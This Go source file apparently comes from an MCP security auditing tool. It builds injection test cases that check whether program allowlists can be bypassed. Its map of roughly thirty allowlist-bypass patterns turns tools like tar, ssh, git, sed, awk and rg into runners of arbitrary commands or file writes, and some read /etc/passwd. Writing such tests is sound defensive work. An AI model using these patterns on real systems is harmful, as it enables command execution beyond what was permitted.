package attack

import (
	"path"
	"slices"
	"strings"

	"github.com/mcpaudit/mcpaudit/runner/inputs"
	"github.com/mcpaudit/mcpaudit/runner/lazyregexp"
)

// runners are arguments that make a program run another one ("!") or write a file ("@"). An allowlist with
// one of these programs allows every program.
var runners = map[string]string{
	"awk":     `awk 'BEGIN{system("!")}'`,
	"bash":    `bash -c '!'`,
	"env":     `env !`,
	"find":    `find . -maxdepth 0 -exec ! {} +`,
	"gawk":    `gawk 'BEGIN{system("!")}'`,
	"git":     `git -c 'alias.st=!!' st`,
	"make":    `make --eval '$(shell !)'`,
	"man":     `man -P ! sh`,
	"nice":    `nice !`,
	"node":    `node -e 'require("child_process").execFileSync("!")'`,
	"nohup":   `nohup !`,
	"npm":     `npm exec -c !`,
	"npx":     `npx -c !`,
	"perl":    `perl -e 'exec "!"'`,
	"python":  `python -c 'import os;os.system("!")'`,
	"python3": `python3 -c 'import os;os.system("!")'`,
	"rg":      `rg --pre ! x /etc/passwd`,
	"rsync":   `rsync -e ! backup:x .`,
	"dd":      `dd of=@ count=0`,
	"sort":    `sort -o@ .`,
	"tee":     `tee @`,
	"sed":     `sed '1e !' /etc/passwd`,
	"sh":      `sh -c '!'`,
	"ssh":     `ssh -o ProxyCommand=! backup`,
	"tar":     `tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=!`,
	"time":    `time !`,
	"timeout": `timeout 1 !`,
	"xargs":   `xargs !`,
}

const (
	maxRunners = 8    // in one field
	maxWords   = 1024 // of a text that are searched for programs
)

var word = lazyregexp.New(`[\w.-]+`)

// runnerSteps returns the attempts to have allowed programs run another one, in fields that
// take a command: the program of the honest value, and those that a text names.
func runnerSteps(fields []field, text string) (all []step) {
	for _, field := range fields {
		first, _, _ := strings.Cut(strings.TrimSpace(field.core()), " ")
		if _, known := runners[path.Base(first)]; !field.text || !known && !inputs.Commands(field.name) {
			continue
		}
		var tried []string
		for _, name := range append([]string{path.Base(first)}, word.FindAllString(text, maxWords)...) {
			if pattern, known := runners[name]; known && !slices.Contains(tried, name) && len(tried) < maxRunners {
				tried = append(tried, name)
				all = append(all, step{family: Command, form: runner(name, pattern), field: field})
			}
		}
	}
	return all
}

// listSteps returns the same attempts for the arguments of a program in a list, beside the field of the program.
func listSteps(fields []field, text string) (all []step) {
	for _, list := range fields {
		last := len(list.steps) - 1
		if at, isIndex := list.steps[last].(int); !isIndex || at != 0 || !list.text {
			continue
		}
		list.name, list.steps, list.ahead = strings.TrimSuffix(list.name, "[0]"), list.steps[:last], nil
		for _, program := range fields {
			if _, known := runners[program.core()]; above(program.name) != above(list.name) || !known && !forProgram.MatchString(program.name) {
				continue
			}
			for _, s := range runnerSteps([]field{{name: "command", text: true, value: program.value}}, text) {
				s.field, s.form.list = program, &list
				all = append(all, s)
			}
			return all
		}
	}
	return nil
}

// forProgram matches names of fields for the name of a program.
var forProgram = lazyregexp.New(`(?i)(?:^|[._])(?:program|binary|executable|command|cmd|tool|exe)(?:_?name)?$`)

// wordsOf splits a pattern of runners into words.
func wordsOf(command string) (all []string) {
	for _, w := range quotedWord.FindAllString(command, maxWords) {
		all = append(all, strings.Trim(w, "'"))
	}
	return all
}

var quotedWord = lazyregexp.New(`'[^']*'|[^\s']+`)

// runner is a form with a pattern, in which "!!" stands for "!" and the program.
func runner(name, pattern string) form {
	return form{name: "as an argument of " + name, write: func(f field, m inputs.Mark, _ int) string {
		return f.before + strings.NewReplacer("!!", "!"+m.Command(), "!", m.Command(), "@", m.OutsideFile()).Replace(pattern) + f.behind
	}}
}
